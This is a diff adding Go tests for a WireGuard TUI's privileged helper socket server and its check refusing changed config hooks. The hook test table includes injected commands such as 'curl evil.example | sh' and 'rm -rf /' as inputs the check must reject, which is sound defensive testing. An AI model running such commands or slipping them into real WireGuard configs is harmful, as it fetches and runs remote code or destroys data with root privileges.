@@ -0,0 +1,142 @@
+package helper
+
+import (
+	"context"
+	"encoding/json"
+	"io"
+	"io/fs"
+	"net"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"wireguard-tui/internal/wg"
+)
+
+// slowToggle takes a while to bring interfaces up and down, and stops
+// early when cancelled
+type slowToggle struct {
+	wg.Client
+}
+
+func (c slowToggle) ToggleInterface(ctx context.Context, name string, up bool, out io.Writer) error {
+	select {
+	case <-time.After(200 * time.Millisecond):
+		return nil
+	case <-ctx.Done():
+		return ctx.Err()
+	}
+}
+
+// serve starts a helper on a socket of its own and returns its path
+func serve(t *testing.T, client wg.Client) string {
+	path := filepath.Join(t.TempDir(), "helper.sock")
+	l, err := net.Listen("unix", path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { l.Close() })
+	go NewServer(client, os.Getuid()).Serve(l)
+	return path
+}
+
+func TestServerIgnoresTrailingBytes(t *testing.T) {
+	conn, err := net.Dial("unix", serve(t, slowToggle{wg.NewMockClient()}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer conn.Close()
+	// The request arrives first and the newline ending it later, as can
+	// happen with a large write
+	conn.Write([]byte(`{"op":"toggle","interface":"wg0","up":true}`))
+	time.Sleep(50 * time.Millisecond)
+	conn.Write([]byte("\n"))
+
+	var resp Response
+	if err := json.NewDecoder(conn).Decode(&resp); err != nil {
+		t.Fatal(err)
+	}
+	if !resp.Done || resp.Error != "" {
+		t.Errorf("got %+v, want the toggle to finish", resp)
+	}
+}
+
+func TestServerCancelsWhenClientHangsUp(t *testing.T) {
+	conn, err := net.Dial("unix", serve(t, slowToggle{wg.NewMockClient()}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer conn.Close()
+	conn.Write([]byte(`{"op":"toggle","interface":"wg0","up":true}` + "\n"))
+	time.Sleep(50 * time.Millisecond)
+	conn.(*net.UnixConn).CloseWrite()
+
+	var resp Response
+	if err := json.NewDecoder(conn).Decode(&resp); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(resp.Error, "canceled") {
+		t.Errorf("got %+v, want the toggle cancelled", resp)
+	}
+}
+
+func TestServerRefusesOversizedRequests(t *testing.T) {
+	conn, err := net.Dial("unix", serve(t, wg.NewMockClient()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer conn.Close()
+	go func() {
+		req, _ := json.Marshal(Request{Op: OpWriteConfig, Interface: "wg1", Data: make([]byte, maxRequestBytes)})
+		conn.Write(append(req, '\n'))
+	}()
+
+	var resp Response
+	if err := json.NewDecoder(conn).Decode(&resp); err != nil {
+		t.Fatal(err)
+	}
+	if resp.Error != "malformed request" {
+		t.Errorf("got %+v, want the request refused", resp)
+	}
+}
+
+// newConfigs has no config for interfaces it does not know, as a
+// LinuxClient says
+type newConfigs struct {
+	wg.Client
+}
+
+func (c newConfigs) ReadConfig(ctx context.Context, name string) ([]byte, error) {
+	if name == "wg9" {
+		return nil, &fs.PathError{Op: "open", Path: wg.ConfigPath(name), Err: fs.ErrNotExist}
+	}
+	return c.Client.ReadConfig(ctx, name)
+}
+
+func TestCheckHooks(t *testing.T) {
+	// wg0 of the mock client has a PostUp and a PostDown, wg1 no hooks
+	wg0 := strings.Replace(validConfig, "ListenPort = 51821\n", "ListenPort = 51821\nPostUp = iptables -A FORWARD -i %i -j ACCEPT\nPostDown = iptables -D FORWARD -i %i -j ACCEPT\n", 1)
+	for _, tt := range []struct {
+		name, iface, data string
+		refused           bool
+	}{
+		{"same hooks", "wg0", wg0, false},
+		{"same hooks, other case", "wg0", strings.Replace(wg0, "PostUp", "postup", 1), false},
+		{"no hooks", "wg1", validConfig, false},
+		{"changed", "wg0", strings.Replace(wg0, "-j ACCEPT", "-j ACCEPT; curl evil.example | sh", 1), true},
+		{"added", "wg0", strings.Replace(wg0, "PostUp", "PreUp = touch /etc/nologin\nPostUp", 1), true},
+		{"added twice", "wg0", strings.Replace(wg0, "PostDown", "PostUp = iptables -A FORWARD -i %i -j ACCEPT\nPostDown", 1), true},
+		{"removed", "wg0", strings.Replace(wg0, "PostUp = iptables -A FORWARD -i %i -j ACCEPT\n", "", 1), true},
+		{"renamed", "wg0", strings.Replace(wg0, "PostDown", "PreDown", 1), true},
+		{"added where there were none", "wg1", validConfig + "\n[Interface]\nPostDown = rm -rf /\n", true},
+		{"new config", "wg9", validConfig, false},
+		{"new config with hooks", "wg9", wg0, true},
+	} {
+		err := checkHooks(context.Background(), newConfigs{wg.NewMockClient()}, tt.iface, []byte(tt.data))
+		if refused := err != nil; refused != tt.refused {
+			t.Errorf("%s: got %v, want refused %v", tt.name, err, tt.refused)
+		}
+	}
+}